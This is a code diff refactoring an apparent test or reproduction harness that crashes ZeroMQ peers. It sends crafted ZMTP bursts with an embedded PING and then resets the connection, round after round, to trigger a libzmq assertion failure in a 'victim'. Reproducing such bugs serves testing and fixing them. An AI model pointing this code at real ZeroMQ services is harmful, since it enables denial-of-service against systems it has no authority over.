@@ -133,22 +133,15 @@ class Stranger:
         failed connection (``Assertion failed: !_io_error (src/stream_engine_base.cpp:310)``). Returns
         how many rounds found the victim listening."""
         host, port = self.endpoint.removeprefix("tcp://").rsplit(":", 1)
-        burst = _zmtp_frame(b"") * (messages // 2) + _zmtp_ping() + _zmtp_frame(b"") * (messages - messages // 2)
         for done in range(rounds):
             try:
                 sock = socket.create_connection((host, int(port)), timeout=10)
             except ConnectionRefusedError:  # the victim is gone
                 return done
             with sock:
-                sock.sendall(_ZMTP_GREETING)
-                greeting = b""
-                while len(greeting) < len(_ZMTP_GREETING):
-                    more = sock.recv(len(_ZMTP_GREETING) - len(greeting))
-                    if not more:
-                        break
-                    greeting += more
-                sock.sendall(_zmtp_ready() + burst)
-                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # close = reset
+                if _zmtp_greet(sock):
+                    sock.sendall(_zmtp_ready(b"DEALER") + _zmtp_burst(messages))
+                _reset_on_close(sock)
             time.sleep(0.2)
         return rounds
 
@@ -167,9 +160,31 @@ def _zmtp_frame(body: bytes, command: bool = False) -> bytes:
     return bytes([0x04 if command else 0x00, len(body)]) + body
 
 
-def _zmtp_ready(socket_type: bytes = b"DEALER") -> bytes:
+def _zmtp_ready(socket_type: bytes) -> bytes:
     return _zmtp_frame(b"\x05READY" + bytes([11]) + b"Socket-Type" + struct.pack(">I", len(socket_type))
                        + socket_type, command=True)
+
+
+def _zmtp_greet(sock: socket.socket) -> bool:
+    """Exchange greetings; False if the other side closed first."""
+    sock.sendall(_ZMTP_GREETING)
+    greeting = b""
+    while len(greeting) < len(_ZMTP_GREETING):
+        more = sock.recv(len(_ZMTP_GREETING) - len(greeting))
+        if not more:
+            return False
+        greeting += more
+    return True
+
+
+def _zmtp_burst(messages: int) -> bytes:
+    """``messages`` empty messages with a PING command in the middle, to be sent in one write."""
+    half = messages // 2
+    return _zmtp_frame(b"") * half + _zmtp_ping() + _zmtp_frame(b"") * (messages - half)
+
+
+def _reset_on_close(sock: socket.socket) -> None:
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
 
 
 def impostor_flood(listener: socket.socket, messages: int, timeout: float = 20) -> None:
@@ -182,17 +197,10 @@ def impostor_flood(listener: socket.socket, messages: int, timeout: float = 20) 
     conn, _ = listener.accept()
     with conn:
         conn.settimeout(timeout)
-        conn.sendall(_ZMTP_GREETING)
-        greeting = b""
-        while len(greeting) < len(_ZMTP_GREETING):
-            more = conn.recv(len(_ZMTP_GREETING) - len(greeting))
-            if not more:
-                return
-            greeting += more
-        half = messages // 2
-        conn.sendall(_zmtp_ready(b"ROUTER") + _zmtp_frame(b"") * half + _zmtp_ping() + _zmtp_frame(b"") * half)
-        time.sleep(0.3)  # the burst is in before the reset
-        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        if _zmtp_greet(conn):
+            conn.sendall(_zmtp_ready(b"ROUTER") + _zmtp_burst(messages))
+            time.sleep(0.3)  # the burst is in before the reset
+        _reset_on_close(conn)
 
 
 def _zmtp_ping() -> bytes:
